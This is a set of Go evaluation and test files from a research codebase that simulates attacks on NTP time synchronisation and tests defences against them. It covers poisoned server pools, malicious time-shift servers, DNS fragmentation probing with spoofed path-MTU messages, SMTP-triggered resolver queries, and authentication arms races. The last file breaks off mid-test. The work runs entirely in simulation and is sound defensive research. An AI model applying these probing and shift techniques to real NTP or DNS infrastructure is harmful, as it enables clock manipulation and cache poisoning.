// against its committed golden, then round-trips the typed Result through
// JSON and asserts the re-rendered table still matches the same bytes —
// so the serialized payload provably carries everything the table needs.
// Run with -update to regenerate after an intentional change:
//
//	go test ./internal/eval -run TestGoldenTables -update
func TestGoldenTables(t *testing.T) {
	for _, tc := range goldenCases() {
		tc := tc
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			res, err := tc.fn()
			if err != nil {
				t.Fatal(err)
			}
			got := []byte(res.Render())
			path := filepath.Join("testdata", tc.name+".golden")
			if *update {
				if err := os.MkdirAll("testdata", 0o755); err != nil {
					t.Fatal(err)
				}
				if err := os.WriteFile(path, got, 0o644); err != nil {
					t.Fatal(err)
				}
				return
			}
			want, err := os.ReadFile(path)
			if err != nil {
				t.Fatalf("missing golden (run with -update to create): %v", err)
			}
			if string(want) != string(got) {
				t.Fatalf("%s rendering drifted from golden %s.\n--- want ---\n%s\n--- got ---\n%s",
					tc.name, path, want, got)
			}

			// JSON round-trip: marshal → unmarshal → re-render → same bytes.
			blob, err := json.Marshal(res)
			if err != nil {
				t.Fatalf("marshal: %v", err)
			}
			var back Result
			if err := json.Unmarshal(blob, &back); err != nil {
				t.Fatalf("unmarshal: %v", err)
			}
			if back.Meta != res.Meta {
				t.Fatalf("meta drifted through JSON: %+v vs %+v", back.Meta, res.Meta)
			}
			if rerendered := back.Render(); rerendered != string(want) {
				t.Fatalf("%s table re-rendered from JSON differs from golden.\n--- want ---\n%s\n--- got ---\n%s",
					tc.name, want, rerendered)
			}
		})
	}
}

// TestResultJSONClosedForm round-trips the closed-form experiments (E3,
// E4) that have no golden files; E4's payload carries the +Inf years the
// eval.Float type must survive.
func TestResultJSONClosedForm(t *testing.T) {
	for _, fn := range []func() (*Result, error){MaxAddresses, ChronosSecurity} {
		res, err := fn()
		if err != nil {
			t.Fatal(err)
		}
		blob, err := json.Marshal(res)
		if err != nil {
			t.Fatalf("%s marshal: %v", res.Meta.ID, err)
		}
		var back Result
		if err := json.Unmarshal(blob, &back); err != nil {
			t.Fatalf("%s unmarshal: %v", res.Meta.ID, err)
		}
		if back.Render() != res.Render() {
			t.Fatalf("%s re-rendered table differs after JSON round-trip", res.Meta.ID)
		}
	}
}

// TestResultJSONRejectsForeign covers the envelope's failure modes.
func TestResultJSONRejectsForeign(t *testing.T) {
	var r Result
	if err := json.Unmarshal([]byte(`{"schema":"other/v9","kind":"figure1","meta":{},"payload":{}}`), &r); err == nil {
		t.Error("foreign schema accepted")
	}
	if err := json.Unmarshal([]byte(`{"schema":"`+ResultSchema+`","kind":"nope","meta":{},"payload":{}}`), &r); err == nil {
		t.Error("unknown payload kind accepted")
	}
	if _, err := json.Marshal(&Result{Meta: Meta{ID: "EX"}}); err == nil {
		t.Error("payload-less result marshalled")
	}
}
