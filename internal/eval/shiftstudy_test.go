package eval

import (
	"runtime"
	"strings"
	"testing"
	"time"

	"chronosntp/internal/analysis"
)

// TestShiftStudyDeterministicAcrossParallelism renders E10 at -parallel 1
// and -parallel GOMAXPROCS: identical bytes (trials are independently
// seeded engines reduced by trial index).
func TestShiftStudyDeterministicAcrossParallelism(t *testing.T) {
	seq, err := ShiftStudy(5, 2, 1, 0, 24*time.Hour, "all")
	if err != nil {
		t.Fatal(err)
	}
	par, err := ShiftStudy(5, 2, runtime.GOMAXPROCS(0), 0, 24*time.Hour, "all")
	if err != nil {
		t.Fatal(err)
	}
	if seq.Render() != par.Render() {
		t.Fatalf("E10 table differs across parallelism:\n--- seq ---\n%s\n--- par ---\n%s",
			seq.Render(), par.Render())
	}
}

// TestShiftStudyMatchesClosedFormRegimes pins the cross-tabulation's
// agreement for the non-adaptive (greedy) grid against the closed-form
// regime classification (analysis.YearsToShift at the same step): every
// composition whose expected effort fits well inside the horizon must
// shift in every trial, every composition whose expected effort exceeds
// it by an order of magnitude must shift in none, and the §V-capped rows
// always hold. Borderline compositions (expected effort within 10× of
// the horizon either way) are tail events and not asserted.
func TestShiftStudyMatchesClosedFormRegimes(t *testing.T) {
	const horizon = 24 * time.Hour
	res, err := ShiftStudy(7, 3, 0, 0, horizon, "greedy")
	if err != nil {
		t.Fatal(err)
	}
	tbl := res.Table()
	expect := func(pool, malicious int) string {
		st, err := analysis.YearsToShift(pool, malicious, 15, 5,
			100*time.Millisecond, 25*time.Millisecond, 64*time.Second)
		if err != nil {
			t.Fatal(err)
		}
		switch {
		case st.WithinHorizon(horizon / 10):
			return "all"
		case !st.WithinHorizon(10 * horizon):
			return "none"
		default:
			return "either"
		}
	}
	// Row order mirrors the grid: pools × {off, §V caps}.
	wants := []string{
		expect(133, 33), "none", // §V-capped compositions are all sub-1/3
		expect(133, 44), "none",
		expect(133, 67), "none",
		expect(133, 89), "none",
	}
	if len(tbl.Rows) != len(wants) {
		t.Fatalf("greedy grid has %d rows, want %d", len(tbl.Rows), len(wants))
	}
	for i, row := range tbl.Rows {
		shifted := row[3]
		switch wants[i] {
		case "all":
			if !strings.HasPrefix(shifted, "1.000") {
				t.Errorf("row %v: want every trial shifted, got %q", row, shifted)
			}
		case "none":
			if !strings.HasPrefix(shifted, "0.000") {
				t.Errorf("row %v: want no trial shifted, got %q", row, shifted)
			}
		}
	}
}

// TestShiftStudySweepsDimensions: the full E10 grid carries every
// strategy, both mitigation settings, and the four pool fractions.
func TestShiftStudySweepsDimensions(t *testing.T) {
	res, err := ShiftStudy(1, 1, 0, 0, 12*time.Hour, "all")
	if err != nil {
		t.Fatal(err)
	}
	tbl := res.Table()
	out := tbl.Render()
	for _, want := range []string{
		"greedy", "stealth", "intermittent", "honest-until-threshold",
		"§V caps", "89/133", "33/133", "> horizon",
	} {
		if !strings.Contains(out, want) {
			t.Fatalf("E10 table missing %q:\n%s", want, out)
		}
	}
	if len(tbl.Rows) != 4*4*2 {
		t.Fatalf("E10 grid has %d rows, want 32", len(tbl.Rows))
	}
}

// TestShiftStudyRejectsUnknownStrategy: the strategy filter validates up
// front.
func TestShiftStudyRejectsUnknownStrategy(t *testing.T) {
	if _, err := ShiftStudy(1, 1, 0, 0, 0, "sneaky"); err == nil {
		t.Fatal("unknown strategy accepted")
	}
}
