package eval

import (
	"context"
	"fmt"
	"time"

	"chronosntp/internal/chronos"
	"chronosntp/internal/runner"
	"chronosntp/internal/shiftsim"
)

// AuthStudy (E11) is the authentication arms race over the paper's
// poisoned pool: for every (attacker move × acceptance policy ×
// authenticated fraction × credential scheme) grid point it runs the
// long-horizon shift engine with the ntpauth decision model
// (shiftsim.AuthModel) and measures whether the greedy attacker still
// reaches the target shift — and what the defence costs the client
// (rejected samples, demobilized associations, panic-mode fallback).
//
// The expected story, pinned by the golden: an unauthenticated client
// falls to every move; per-server credentials with a strong scheme turn
// every move into starvation-not-shift; a forgeable scheme (MD5)
// re-enables all of them; and the chrony-style minsources quorum keeps
// a credential-starved client syncing on the normal path where classic
// C1/C2 (MinReplies ≥ 10) collapses onto panic mode.
//
// target/horizon default to 100 ms / 24 h; move "" or "all" sweeps every
// registered auth move; minSources sizes the quorum-policy arm (0 = 3).
func AuthStudy(seed int64, trials, parallel int, target, horizon time.Duration, move string, minSources int) (*Result, error) {
	if trials < 1 {
		trials = 1
	}
	points, target, horizon, minSources, err := authGrid(target, horizon, move, minSources)
	if err != nil {
		return nil, err
	}

	results := make([][]*shiftsim.Result, len(points))
	for i := range results {
		results[i] = make([]*shiftsim.Result, trials)
	}
	err = runner.ForEach(context.Background(), len(points)*trials, parallel,
		func(i int) error {
			pi, k := i/trials, i%trials
			p := points[pi]
			cfg := shiftsim.Config{
				// Decorrelate the per-point seed blocks (same spacing as E10).
				Seed:      seed + int64(pi)*10_007 + int64(k),
				PoolSize:  133,
				Malicious: 89,
				Target:    target,
				Horizon:   horizon,
				RunLength: -1,
				Auth:      &shiftsim.AuthModel{Frac: p.frac, Scheme: p.scheme, Move: p.move},
			}
			if p.quorum {
				cfg.Client = chronos.Config{MinSources: minSources}
			}
			res, err := shiftsim.Run(cfg)
			if err != nil {
				return err
			}
			results[pi][k] = res
			return nil
		})
	if err != nil {
		return nil, err
	}

	payload := &AuthStudyPayload{
		Target: target, Horizon: horizon,
		Pool: 133, Malicious: 89, MinSources: minSources,
	}
	for pi, p := range points {
		policy := "c1c2"
		if p.quorum {
			policy = fmt.Sprintf("minsources-%d", minSources)
		}
		scheme := p.scheme
		if p.frac == 0 {
			scheme = "-" // no credentials: the scheme axis is moot
		}
		var shifted int
		var hits, times, updates, panics, rejects, demob []float64
		for _, r := range results[pi] {
			hit := 0.0
			if r.Shifted {
				hit = 1
				shifted++
				times = append(times, float64(r.TimeToShift))
			}
			hits = append(hits, hit)
			updates = append(updates, float64(r.Updates))
			panics = append(panics, float64(r.Panics))
			rejects = append(rejects, float64(r.AuthRejected))
			demob = append(demob, float64(r.Demobilized))
		}
		payload.Rows = append(payload.Rows, AuthRow{
			Move: p.move, Policy: policy, AuthFrac: p.frac, Scheme: scheme,
			Hit: describe(hits), ShiftedCount: shifted, TimeToShift: describe(times),
			Updates: describe(updates), Panics: describe(panics),
			AuthRejected: describe(rejects), Demobilized: describe(demob),
		})
	}
	return &Result{Meta: newMeta("E11", seed, trials), Payload: payload}, nil
}

// authPoint is one E11 grid point before execution.
type authPoint struct {
	frac   float64
	scheme string
	quorum bool
	move   string
}

// authGrid resolves the E11 defaults and expands the grid. The fraction
// axis collapses the scheme dimension at 0 (no credentials to grade), so
// each (move × policy) pair contributes 1 + 2×3 points.
func authGrid(target, horizon time.Duration, move string, minSources int) ([]authPoint, time.Duration, time.Duration, int, error) {
	if target == 0 {
		target = 100 * time.Millisecond
	}
	if horizon == 0 {
		horizon = 24 * time.Hour
	}
	if minSources == 0 {
		minSources = 3
	}
	moves := shiftsim.AuthMoves()
	if move != "" && move != "all" {
		if shiftsim.AuthMoveDescription(move) == "" {
			return nil, 0, 0, 0, fmt.Errorf("eval: unknown auth move %q (valid: %v)", move, moves)
		}
		moves = []string{move}
	}
	var points []authPoint
	for _, mv := range moves {
		for _, quorum := range []bool{false, true} {
			points = append(points, authPoint{frac: 0, scheme: shiftsim.AuthSHA256, quorum: quorum, move: mv})
			for _, frac := range []float64{0.67, 1} {
				for _, scheme := range shiftsim.AuthSchemes() {
					points = append(points, authPoint{frac: frac, scheme: scheme, quorum: quorum, move: mv})
				}
			}
		}
	}
	return points, target, horizon, minSources, nil
}
