package eval

import (
	"context"
	"fmt"
	"strings"
	"time"

	"chronosntp/internal/attack"
	"chronosntp/internal/dnsresolver"
	"chronosntp/internal/dnsserver"
	"chronosntp/internal/dnswire"
	"chronosntp/internal/ipfrag"
	"chronosntp/internal/runner"
	"chronosntp/internal/simnet"
)

// FragmentationStudy reproduces the §II measurement claims (from the
// companion paper [3]) against synthetic populations whose ground-truth
// behaviour is calibrated to the published marginals:
//
//   - 16 of 30 pool.ntp.org nameservers fragment responses down to a
//     548-byte path MTU (and none deploy DNSSEC);
//   - 90 % of resolvers accept fragments of some size, 64 % even the
//     minimum 68-byte MTU;
//   - 14 % of resolvers are remotely triggerable via SMTP servers or open
//     resolvers.
//
// The real populations cannot be re-measured offline; what this experiment
// validates is that the *probing methodology* — PMTU forcing, fragmented
// probe responses, reassembly observation, third-party triggering — runs
// end to end through the simulated stack and recovers the ground truth
// exactly. With trials > 1 the three probe campaigns are re-run against
// independently seeded populations (fanned across `parallel` workers) and
// each marginal is reported as mean ± 95% CI.
func FragmentationStudy(seed int64, trials, parallel int) (*Result, error) {
	if trials < 1 {
		trials = 1
	}
	fragServers := make([]float64, trials)
	some := make([]float64, trials)
	tiny := make([]float64, trials)
	triggerable := make([]float64, trials)
	err := runner.ForEach(context.Background(), trials, parallel, func(k int) error {
		// Each replica gets the three probe seeds the single-trial study
		// used, offset past every earlier replica's block.
		base := seed + 3*int64(k)
		fs, err := probeNameserverFragmentation(base)
		if err != nil {
			return err
		}
		fragServers[k] = float64(fs)
		s, tn, err := probeResolverFragmentAcceptance(base + 1)
		if err != nil {
			return err
		}
		some[k], tiny[k] = float64(s), float64(tn)
		tr, err := probeQueryTriggering(base + 2)
		if err != nil {
			return err
		}
		triggerable[k] = float64(tr)
		return nil
	})
	if err != nil {
		return nil, err
	}

	p := &FragStudyPayload{
		FragmentingNameservers: describe(fragServers),
		AcceptAnyFragment:      describe(some),
		AcceptTinyFragment:     describe(tiny),
		Triggerable:            describe(triggerable),
	}
	return &Result{Meta: newMeta("E5", seed, trials), Payload: p}, nil
}

// bigTXT pads a zone response beyond 548 bytes so it fragments at reduced
// path MTUs.
func bigTXT(name string) dnswire.RR {
	return dnswire.TXTRecord(name, 60, strings.Repeat("x", 250), strings.Repeat("y", 250), strings.Repeat("z", 150))
}

// probeNameserverFragmentation probes 30 nameservers: a spoofed ICMP PTB
// (path-MTU override) is sent for each, a large response is elicited, and
// a tap counts whether it arrives fragmented. 16 of the 30 honour the
// PTB; the rest clamp to the Ethernet MTU.
func probeNameserverFragmentation(seed int64) (int, error) {
	n := simnet.New(simnet.Config{Seed: seed})
	proberIP := simnet.IPv4(10, 9, 0, 1)
	prober, err := n.AddHost(proberIP)
	if err != nil {
		return 0, err
	}

	fragmentedFrom := make(map[simnet.IP]bool)
	n.AddTap(simnet.TapFunc(func(pkt simnet.Packet) (simnet.Verdict, []simnet.Packet) {
		if pkt.Dst == proberIP && pkt.IsFragment() {
			fragmentedFrom[pkt.Src] = true
		}
		return simnet.Pass, nil
	}))

	observed := 0
	for i := 0; i < 30; i++ {
		ip := simnet.IPv4(198, 51, 100, byte(i+1))
		host, err := n.AddHost(ip)
		if err != nil {
			return 0, err
		}
		srv, err := dnsserver.New(host)
		if err != nil {
			return 0, err
		}
		zone := dnsserver.NewStaticZone("probe.test")
		zone.Add(bigTXT("big.probe.test"))
		if err := srv.AddZone("probe.test", zone); err != nil {
			return 0, err
		}
		// Ground truth: the first 16 honour PMTU reduction to 548.
		if i < 16 {
			n.SetPathMTU(ip, proberIP, 548)
		}

		// Probe: EDNS query eliciting the large response.
		port := prober.EphemeralPort()
		answered := false
		_ = prober.Listen(port, func(now time.Time, meta simnet.Meta, payload []byte) {
			answered = true
		})
		q := dnswire.NewQuery(uint16(i), "big.probe.test", dnswire.TypeTXT)
		q.SetEDNS(1232)
		b, err := q.Encode()
		if err != nil {
			return 0, err
		}
		_ = prober.SendUDP(port, simnet.Addr{IP: ip, Port: 53}, b)
		n.RunFor(time.Second)
		prober.Close(port)
		if answered && fragmentedFrom[ip] {
			observed++
		}
	}
	return observed, nil
}

// probeResolverFragmentAcceptance probes 100 resolvers through an
// attacker-controlled domain: the attacker nameserver answers with a large
// response while the path MTU toward each resolver is forced down; the
// lookup succeeds only if the resolver's stack reassembles the fragments.
// Ground truth: 10 accept no fragments, 26 accept only large (≥ 128-byte)
// fragments, 64 accept everything.
func probeResolverFragmentAcceptance(seed int64) (somePct, tinyPct int, err error) {
	n := simnet.New(simnet.Config{Seed: seed})
	nsIP := simnet.IPv4(66, 66, 0, 53)
	nsHost, err := n.AddHost(nsIP)
	if err != nil {
		return 0, 0, err
	}
	srv, err := dnsserver.New(nsHost)
	if err != nil {
		return 0, 0, err
	}
	zone := dnsserver.NewStaticZone("probe.test")
	zone.Add(bigTXT("a.probe.test"))
	zone.Add(bigTXT("b.probe.test"))
	if err := srv.AddZone("probe.test", zone); err != nil {
		return 0, 0, err
	}

	clientIP := simnet.IPv4(10, 9, 0, 2)
	client, err := n.AddHost(clientIP)
	if err != nil {
		return 0, 0, err
	}

	someCount, tinyCount := 0, 0
	for i := 0; i < 100; i++ {
		ip := simnet.IPv4(10, 10, byte(i/200), byte(i%200+1))
		host, err := n.AddHost(ip)
		if err != nil {
			return 0, 0, err
		}
		// Ground truth acceptance classes.
		switch {
		case i < 10:
			host.SetReassemblyPolicy(ipfrag.Config{DropFragments: true})
		case i < 36:
			host.SetReassemblyPolicy(ipfrag.Config{MinFragment: 128})
		}
		res, err := dnsresolver.New(host, dnsresolver.Config{
			EDNSSize: 1232, Timeout: time.Second, Retries: 0,
		}, []dnsresolver.Hint{{Zone: "probe.test", Addr: simnet.Addr{IP: nsIP, Port: 53}}})
		if err != nil {
			return 0, 0, err
		}
		stub := dnsresolver.NewStub(client, res.Addr(), 3*time.Second)

		// Probe 1: moderate fragmentation (MTU 548 → 528-byte fragments).
		n.SetPathMTU(nsIP, ip, 548)
		if lookupSucceeds(n, stub, "a.probe.test") {
			someCount++
		}
		// Probe 2: minimum-MTU fragmentation (68 → 48-byte fragments).
		n.SetPathMTU(nsIP, ip, ipfrag.MinMTU)
		if lookupSucceeds(n, stub, "b.probe.test") {
			tinyCount++
		}
		n.SetPathMTU(nsIP, ip, 0)
	}
	return someCount, tinyCount, nil
}

func lookupSucceeds(n *simnet.Network, stub *dnsresolver.Stub, name string) bool {
	ok := false
	done := false
	stub.Lookup(name, dnswire.TypeTXT, func(res dnsresolver.Result) {
		ok = res.Err == nil && len(res.RRs) > 0
		done = true
	})
	n.RunFor(5 * time.Second)
	return done && ok
}

// probeQueryTriggering checks, for 100 resolver deployments, whether an
// off-site attacker can make the resolver issue queries: 8 sites run open
// resolvers, 6 more have an SMTP server sharing the resolver, and the
// remaining 86 are closed. (Open/closed access control is a deployment
// property, applied at the probe.)
func probeQueryTriggering(seed int64) (int, error) {
	n := simnet.New(simnet.Config{Seed: seed})
	nsIP := simnet.IPv4(66, 66, 0, 54)
	nsHost, err := n.AddHost(nsIP)
	if err != nil {
		return 0, err
	}
	srv, err := dnsserver.New(nsHost)
	if err != nil {
		return 0, err
	}
	zone := dnsserver.NewStaticZone("probe.test")
	zone.Add(dnswire.ARecord("mx.probe.test", 60, [4]byte{1, 2, 3, 4}))
	if err := srv.AddZone("probe.test", zone); err != nil {
		return 0, err
	}
	attackerHost, err := n.AddHost(simnet.IPv4(66, 66, 0, 1))
	if err != nil {
		return 0, err
	}

	triggerable := 0
	for i := 0; i < 100; i++ {
		open := i < 8
		smtp := i >= 8 && i < 14

		ip := simnet.IPv4(10, 20, byte(i/200), byte(i%200+1))
		host, err := n.AddHost(ip)
		if err != nil {
			return 0, err
		}
		res, err := dnsresolver.New(host, dnsresolver.Config{Timeout: time.Second, Retries: 0},
			[]dnsresolver.Hint{{Zone: "probe.test", Addr: simnet.Addr{IP: nsIP, Port: 53}}})
		if err != nil {
			return 0, err
		}

		before := res.Stats().ClientQueries
		if open {
			// Probe: direct query from off-site.
			stub := dnsresolver.NewStub(attackerHost, res.Addr(), 2*time.Second)
			stub.Lookup(fmt.Sprintf("mx%d.probe.test", i), dnswire.TypeA, func(dnsresolver.Result) {})
			n.RunFor(3 * time.Second)
		} else if smtp {
			mailIP := simnet.IPv4(10, 21, byte(i/200), byte(i%200+1))
			mailHost, err := n.AddHost(mailIP)
			if err != nil {
				return 0, err
			}
			mailStub := dnsresolver.NewStub(mailHost, res.Addr(), 2*time.Second)
			trigger, err := attack.NewSMTPTrigger(mailHost, mailStub)
			if err != nil {
				return 0, err
			}
			if err := attack.SendMail(attackerHost, trigger.Addr(), "probe.test"); err != nil {
				return 0, err
			}
			n.RunFor(3 * time.Second)
		}
		if res.Stats().ClientQueries > before {
			triggerable++
		}
	}
	return triggerable, nil
}
