package wirenet_test

import (
	"bytes"
	"math/rand"
	"net"
	"testing"
	"time"

	"chronosntp/internal/clock"
	"chronosntp/internal/ntpauth"
	"chronosntp/internal/ntpserver"
	"chronosntp/internal/ntpwire"
	"chronosntp/internal/simnet"
	"chronosntp/internal/wirenet"
)

// TestConformanceAuthenticatedResponseBytes extends the byte-level
// transport conformance pin to authenticated serving: MAC-trailered and
// NTS-protected requests, arriving at the same (virtual) instants at
// servers with the same keys and policy, must produce bit-identical
// credential-sealed replies from the simnet path and the real-socket
// path. Both transports route through ntpserver.Responder.ServeDatagram,
// so a divergence here means one of them grew its own framing or
// sealing semantics.
func TestConformanceAuthenticatedResponseBytes(t *testing.T) {
	const requests = 6
	interval := 250 * time.Millisecond
	start := time.Date(2020, 6, 1, 0, 0, 0, 0, time.UTC) // simnet's virtual origin

	macKeys := []ntpauth.Key{
		{ID: 1, Algo: ntpauth.AlgoMD5, Secret: []byte("legacy-md5-secret")},
		{ID: 7, Algo: ntpauth.AlgoSHA256, Secret: []byte("strong-sha256-secret")},
	}
	ntsMaster := bytes.Repeat([]byte{0x5a}, 16)
	const ntsSeed = int64(0x2121)

	mustTable := func(keys ...ntpauth.Key) *ntpauth.KeyTable {
		tbl, err := ntpauth.NewKeyTable(keys...)
		if err != nil {
			t.Fatal(err)
		}
		return tbl
	}

	// mkAuth builds one path's server-side policy. Each transport gets
	// its own instance (the digest/AEAD scratch is stateful), built from
	// the same key material so sealed replies must agree byte for byte.
	mkAuth := func() *ntpauth.ServerAuth {
		srv, err := ntpauth.NewNTSServer(ntsMaster)
		if err != nil {
			t.Fatal(err)
		}
		return &ntpauth.ServerAuth{
			Keys:    mustTable(macKeys...),
			NTS:     srv,
			Require: true,
		}
	}

	// Request builders. Each returns the full set of request datagrams
	// up front so both transports replay the identical bytes, plus a
	// fresh client-side verifier replaying the same deterministic
	// credential sequence against the replies.
	type scenario struct {
		name   string
		reqs   func() [][]byte
		verify func() func(k int, reply []byte) (bool, bool)
	}
	mkMACReqs := func(key ntpauth.Key) func() [][]byte {
		return func() [][]byte {
			mac := ntpauth.NewMACer(mustTable(key))
			out := make([][]byte, requests)
			for k := range out {
				raw := ntpwire.NewClientPacket(start.Add(time.Duration(k) * interval)).Encode()
				sealed, ok := mac.AppendMAC(raw, key.ID, raw)
				if !ok {
					t.Fatalf("AppendMAC failed for key %d", key.ID)
				}
				out[k] = sealed
			}
			return out
		}
	}
	mkMACVerify := func(key ntpauth.Key) func() func(int, []byte) (bool, bool) {
		return func() func(int, []byte) (bool, bool) {
			ca := &ntpauth.ClientAuth{Key: key, Require: true}
			return func(_ int, reply []byte) (bool, bool) { return ca.VerifyResponse(reply) }
		}
	}
	// NTS requests are sealed once from a session established against a
	// scratch NTSServer sharing the master key: cookies carry their own
	// nonces, so the serving instances (whose mint counters start fresh
	// and identical) can open them and must mint identical refills.
	establish := func() *ntpauth.NTSSession {
		scratch, err := ntpauth.NewNTSServer(ntsMaster)
		if err != nil {
			t.Fatal(err)
		}
		sess, err := ntpauth.Establish(scratch, ntsSeed, requests+2)
		if err != nil {
			t.Fatal(err)
		}
		return sess
	}
	ntsReqs := func() [][]byte {
		sess := establish()
		out := make([][]byte, requests)
		for k := range out {
			raw := ntpwire.NewClientPacket(start.Add(time.Duration(k) * interval)).Encode()
			sealed, ok := sess.SealRequest(raw)
			if !ok {
				t.Fatalf("NTS cookie pool exhausted at request %d", k)
			}
			out[k] = append([]byte(nil), sealed...)
		}
		return out
	}
	ntsVerify := func() func(int, []byte) (bool, bool) {
		// An identical session replays the same seal sequence (refilled
		// cookies append at the FIFO tail and are never popped within
		// `requests` seals, so the request bytes match the pre-sealed
		// set) and binds each reply to its own pending UID.
		sess := establish()
		ca := &ntpauth.ClientAuth{NTS: sess, Require: true}
		return func(k int, reply []byte) (bool, bool) {
			raw := ntpwire.NewClientPacket(start.Add(time.Duration(k) * interval)).Encode()
			if sealed := ca.SealRequest(raw); len(sealed) <= ntpwire.PacketSize {
				t.Fatalf("verifier session cookie pool exhausted at request %d", k)
			}
			return ca.VerifyResponse(reply)
		}
	}

	scenarios := []scenario{
		{"mac-md5", mkMACReqs(macKeys[0]), mkMACVerify(macKeys[0])},
		{"mac-sha256", mkMACReqs(macKeys[1]), mkMACVerify(macKeys[1])},
		{"nts", ntsReqs, ntsVerify},
	}

	for _, sc := range scenarios {
		t.Run(sc.name, func(t *testing.T) {
			reqs := sc.reqs()
			mkConfig := func(epoch time.Time) ntpserver.Config {
				return ntpserver.Config{
					Clock: clock.New(epoch, -3*time.Millisecond, 0),
					Auth:  mkAuth(),
				}
			}

			// --- simnet path: zero latency, arrival instant == send instant.
			nw := simnet.New(simnet.Config{
				Seed:    9,
				Latency: func(src, dst simnet.IP, rng *rand.Rand) time.Duration { return 0 },
			})
			serverHost, err := nw.AddHost(simnet.IP{203, 0, 113, 1})
			if err != nil {
				t.Fatal(err)
			}
			srv, err := ntpserver.New(serverHost, mkConfig(start))
			if err != nil {
				t.Fatal(err)
			}
			clientHost, err := nw.AddHost(simnet.IP{10, 0, 0, 1})
			if err != nil {
				t.Fatal(err)
			}
			var simReplies [][]byte
			const clientPort = 40000
			if err := clientHost.Listen(clientPort, func(now time.Time, meta simnet.Meta, payload []byte) {
				simReplies = append(simReplies, append([]byte(nil), payload...))
			}); err != nil {
				t.Fatal(err)
			}
			for k := range reqs {
				req := reqs[k]
				nw.After(time.Duration(k)*interval, func() {
					if err := clientHost.SendUDP(clientPort, srv.Addr(), req); err != nil {
						t.Errorf("sim send: %v", err)
					}
				})
			}
			nw.RunFor(time.Duration(requests)*interval + time.Second)
			if len(simReplies) != requests {
				t.Fatalf("sim path: got %d replies, want %d", len(simReplies), requests)
			}

			// --- wire path: one listener replaying the same arrival
			// instants through an injected deterministic clock.
			served := 0
			wireNow := func() time.Time {
				now := start.Add(time.Duration(served) * interval)
				served++
				return now
			}
			wsrv, err := wirenet.Serve(wirenet.ServerConfig{
				Listeners: 1,
				Responder: ntpserver.NewResponder(mkConfig(start)),
				Now:       wireNow,
			})
			if err != nil {
				t.Fatal(err)
			}
			defer wsrv.Close()
			conn, err := net.DialUDP("udp4", nil, net.UDPAddrFromAddrPort(wsrv.AddrPort()))
			if err != nil {
				t.Fatal(err)
			}
			defer conn.Close()
			verify := sc.verify()
			var buf [1024]byte
			for k := range reqs {
				if _, err := conn.Write(reqs[k]); err != nil {
					t.Fatal(err)
				}
				if err := conn.SetReadDeadline(time.Now().Add(2 * time.Second)); err != nil {
					t.Fatal(err)
				}
				n, err := conn.Read(buf[:])
				if err != nil {
					t.Fatalf("wire reply %d: %v", k, err)
				}
				if !bytes.Equal(buf[:n], simReplies[k]) {
					t.Fatalf("reply %d differs between transports:\n  sim:  %x\n  wire: %x", k, simReplies[k], buf[:n])
				}
				if len(buf[:n]) <= ntpwire.PacketSize {
					t.Fatalf("reply %d carries no credentials (%d bytes)", k, n)
				}
				if authed, acceptable := verify(k, buf[:n]); !authed || !acceptable {
					t.Fatalf("reply %d fails client-side verification (authed=%v acceptable=%v)", k, authed, acceptable)
				}
			}

			// A credential-stripped request must be refused by both paths
			// under Require (silent drop, no crypto-NAK oracle).
			bare := ntpwire.NewClientPacket(start.Add(time.Hour)).Encode()
			if err := clientHost.SendUDP(clientPort, srv.Addr(), bare); err != nil {
				t.Fatal(err)
			}
			nw.RunFor(time.Second)
			// A Require policy with Deny unset answers bare requests with
			// an (unauthenticated) DENY kiss rather than time.
			if len(simReplies) != requests+1 {
				t.Fatalf("sim path: bare request produced %d replies, want one DENY kiss", len(simReplies)-requests)
			}
			var kiss ntpwire.Packet
			if err := ntpwire.DecodeInto(&kiss, simReplies[requests]); err != nil {
				t.Fatal(err)
			}
			if !ntpauth.IsKoD(&kiss) || ntpauth.Code(&kiss) != ntpauth.KissDENY {
				t.Fatalf("bare request answered with non-DENY reply: %+v", kiss)
			}
		})
	}
}
