package wirenet_test

import (
	"bytes"
	"math/rand"
	"net"
	"net/netip"
	"testing"
	"time"

	"chronosntp/internal/chronos"
	"chronosntp/internal/clock"
	"chronosntp/internal/ntpserver"
	"chronosntp/internal/ntpwire"
	"chronosntp/internal/simnet"
	"chronosntp/internal/wirenet"
	"chronosntp/internal/wirenet/interoptest"
)

// TestConformanceResponseBytes pins the real-socket serve path to the
// simnet serve path at the byte level: the same requests, arriving at
// the same (virtual) instants at servers with the same configuration,
// must produce bit-identical 48-byte replies. The shared
// ntpserver.Responder makes a reply a pure function of (config, now,
// request), so any divergence here means one transport grew semantics
// of its own.
func TestConformanceResponseBytes(t *testing.T) {
	const requests = 6
	interval := 250 * time.Millisecond
	start := time.Date(2020, 6, 1, 0, 0, 0, 0, time.UTC) // simnet's virtual origin

	scenarios := []struct {
		name   string
		offset time.Duration
		strat  ntpserver.ShiftStrategy
	}{
		{"honest-perfect", 0, nil},
		{"honest-slow-7ms", -7 * time.Millisecond, nil},
		{"malicious-shift-150ms", 0, ntpserver.ConstantShift(150 * time.Millisecond)},
	}

	for _, sc := range scenarios {
		t.Run(sc.name, func(t *testing.T) {
			// The identical request bytes for both paths: a perfect client
			// clock transmitting at start + k*interval.
			reqs := make([][]byte, requests)
			for k := range reqs {
				reqs[k] = ntpwire.NewClientPacket(start.Add(time.Duration(k) * interval)).Encode()
			}
			mkConfig := func(epoch time.Time) ntpserver.Config {
				return ntpserver.Config{
					Clock:    clock.New(epoch, sc.offset, 0),
					Strategy: sc.strat,
				}
			}

			// --- simnet path: zero latency, so arrival instant == send instant.
			nw := simnet.New(simnet.Config{
				Seed:    9,
				Latency: func(src, dst simnet.IP, rng *rand.Rand) time.Duration { return 0 },
			})
			serverHost, err := nw.AddHost(simnet.IP{203, 0, 113, 1})
			if err != nil {
				t.Fatal(err)
			}
			srv, err := ntpserver.New(serverHost, mkConfig(start))
			if err != nil {
				t.Fatal(err)
			}
			clientHost, err := nw.AddHost(simnet.IP{10, 0, 0, 1})
			if err != nil {
				t.Fatal(err)
			}
			var simReplies [][]byte
			const clientPort = 40000
			if err := clientHost.Listen(clientPort, func(now time.Time, meta simnet.Meta, payload []byte) {
				simReplies = append(simReplies, append([]byte(nil), payload...))
			}); err != nil {
				t.Fatal(err)
			}
			for k := range reqs {
				req := reqs[k]
				nw.After(time.Duration(k)*interval, func() {
					if err := clientHost.SendUDP(clientPort, srv.Addr(), req); err != nil {
						t.Errorf("sim send: %v", err)
					}
				})
			}
			nw.RunFor(time.Duration(requests)*interval + time.Second)
			if len(simReplies) != requests {
				t.Fatalf("sim path: got %d replies, want %d", len(simReplies), requests)
			}

